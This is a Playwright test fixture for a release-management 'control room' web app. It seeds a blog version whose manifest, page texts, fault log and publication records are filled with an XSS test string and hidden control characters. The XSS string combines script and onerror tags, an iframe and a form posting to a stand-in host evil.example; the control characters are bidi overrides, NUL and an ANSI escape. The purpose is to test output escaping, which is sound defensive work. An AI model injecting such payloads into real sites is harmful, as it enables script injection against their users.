/** A control room for tests in a browser. */
import { cp, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { type BrowserContext, test as base, expect, type Page } from '@playwright/test';
import { type ControlRoom, openControlRoom } from '@site/control-room/controlRoom.ts';
import { textsFile } from '@site/releases/contents.ts';
import { FaultLog } from '@site/releases/FaultLog.ts';
import { pointerOf } from '@site/releases/pointer.ts';
import { ServerLog } from '@site/releases/ServerLog.ts';
import { unnamedSite } from '@site/releases/signing/audience.ts';
import { localKey, localKeys } from '@site/releases/signing/localKey.ts';
import { signRecord, signRelease } from '@site/releases/signing/signatures.ts';
import { trustFile } from '@site/releases/signing/Trust.ts';
import { FolderStore } from '@site/releases/store/FolderStore.ts';
import { RolloutLog } from '@site/rollouts/RolloutLog.ts';
import { defaultPolicy } from '@site/server/defaultPolicy.ts';
import type { ReleaseManifest } from '@site/shared/contract/release.ts';
import { addVariant, liveVersion } from '@site/testkit/site/faults/variant.ts';
import { temporaryFolder } from '@site/testkit/site/folders.ts';
import { testedReleases } from '@site/testkit/site/releases.ts';

/** Markup that would run, show or send something in any context, and characters that hide the rest. */
export const attack = `"'></bdi></code></h1></title></main><img src=x onerror="pwned=1"><script>pwned=1</script><iframe srcdoc="<script>parent.pwned=1</script>"></iframe><form action=//evil.example><button>{{x}}`;
/** What no text of a signed manifest may have, but a publication or a fault may. */
export const hidden = '\u202e\u2066\u0000\u001b[2J\n';

/** An open room, with who may come in. */
export interface Room extends ControlRoom {
  readonly link: () => string;
  /** The file of a key that it lets in. */
  readonly keyFile: string;
  /** A version of the blog with the attack in every field that takes it, under rollout. */
  readonly hostile: string;
  readonly store: FolderStore;
  /** Publishes another version of the blog, with the room's key. */
  readonly publish: (manifest?: Partial<ReleaseManifest>) => Promise<string>;
}

export const test = base.extend<object, { readonly room: Room }>({
  room: [
    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the requested fixtures from this pattern
    async ({}, use) => {
      const room = await openRoom();
      await use(room);
      await room.close();
    },
    { scope: 'worker' },
  ],
});

/** Opens a room on a store of its own, whose blog has a version with the attack under rollout. */
export async function openRoom(): Promise<Room> {
  const folder = await temporaryFolder('control-room');
  const [store, keys, reports] = ['store', 'keys', 'reports'].map((name) => join(folder, name)) as [
    string,
    string,
    string,
  ];
  await cp(testedReleases, store, { recursive: true });
  const hostile = await addVariant(store, 'blog', {
    manifest: await hostileManifest(store),
    contents: hostileContents,
  });
  const publication = { at: attack, commit: hidden + attack, author: hidden + attack, repository: attack };
  for (const version of [hostile, await liveVersion(store, 'blog')])
    await writeFile(join(store, 'blog', version, 'publication.json'), JSON.stringify(publication));
  const faults = new FaultLog(reports);
  const fault = { app: 'blog', version: hostile, module: './list', code: attack, at: attack };
  await faults.write({ ...fault, message: `${hidden}${attack}\n  at src/pages/list/ListPage.tsx:12:7` });
  const key = await localKey(new FolderStore(store), keys);
  const signing = { key, site: unnamedSite, life: 20 * 24 * 60 * 60_000 };
  // No command would do so: the shell has no such singleton.
  const candidate = { version: hostile, share: 30, since: new Date().toISOString(), salt: 'a'.repeat(16) };
  const pointer = pointerOf('blog');
  await new FolderStore(store).change(pointer, async (current) => {
    if (!current) throw new Error('The blog is live.');
    return signRecord(pointer, { ...current, candidate }, current, signing);
  });
  const room = await openControlRoom({
    settings: { DATA_DIR: folder, HOST: '127.0.0.1', LOG_LEVEL: 'warn', TRUST_PROXY: 'loopback' },
    port: 0,
    store: new FolderStore(store),
    trust: trustFile(localKeys(keys).trusted, unnamedSite),
    faults,
    rollouts: new RolloutLog(reports),
    site: async () => undefined,
    servers: new ServerLog(reports),
    policy: defaultPolicy,
  });
  const publish = async (manifest: Partial<ReleaseManifest> = {}) => {
    const version = await addVariant(store, 'blog', { manifest });
    const opened = new FolderStore(store);
    await opened.replaceManifest(signRelease(await opened.manifest('blog', version), key));
    return version;
  };
  const keyFile = localKeys(keys).key;
  return { ...room, hostile, publish, store: new FolderStore(store), link: () => room.link(key.public), keyFile };
}

/** The attack in texts of pages, as long and as many as can be. */
const hostileContents = {
  [textsFile('en')]: JSON.stringify({
    'list.lead': `${hidden}Hosting, code, ${attack} and search`,
    [attack.slice(0, 190)]: attack + hidden,
    ...Object.fromEntries(Array.from({ length: 900 }, (_, index) => [`many.${index}`, attack])),
  }),
  [textsFile('fr')]: JSON.stringify({ [hidden]: 'x'.repeat(20_000) }),
};

/** The live blog's manifest with the attack in every text that its schema leaves free. */
export async function hostileManifest(store: string): Promise<Partial<ReleaseManifest>> {
  const {
    modules,
    pages = [],
    singletons,
  } = await new FolderStore(store).manifest('blog', await liveVersion(store, 'blog'));
  const short = attack.slice(0, 40);
  const words = { title: attack.slice(0, 120), description: attack.slice(0, 400), link: short, footerLink: short };
  return {
    pages: pages.map((page) => ({
      ...page,
      words: Object.fromEntries(Object.keys(page.words).map((language) => [language, words])) as typeof page.words,
    })),
    modules: { ...modules, [attack.slice(0, 200)]: { scripts: [], styles: [] } },
    singletons: { ...singletons, [attack.slice(0, 200)]: attack.slice(0, 200) },
    apis: { evil: { description: attack.slice(0, 300) } },
  };
}

/** Every kind of page, below its language: whoever adds one adds it here, for all engines, languages, widths and themes. */
export const pathsOf = ({ hostile }: Room): readonly string[] => [
  '',
  '/apps/blog',
  `/apps/blog/${hostile}`,
  '/map',
  '/log',
  '/measures',
  '/measures/30d/blog',
  '/policy',
  `/policy/agree/blog/${hostile}`,
  '/freeze?reason=A%20fair',
  '/servers',
  '/why',
  '/why?address=/en/blog',
  '/apps/blog/end-rollout',
  `/apps/blog/${hostile}/promote`,
  `/apps/blog/${hostile}/share?share=50`,
  '/apps/none',
];

/** Comes into the room with the link of its key. */
export async function comeIn(page: Page, room: Room): Promise<void> {
  await page.goto(room.link());
  await page.getByRole('button', { name: 'Come in' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('What is live');
}

/** Runs with a page of a context of its own. */
export const inContext = async (
  browserOf: () => Promise<BrowserContext>,
  run: (page: Page) => Promise<void>,
): Promise<void> => {
  const context = await browserOf();
  try {
    await run(await context.newPage());
  } finally {
    await context.close();
  }
};
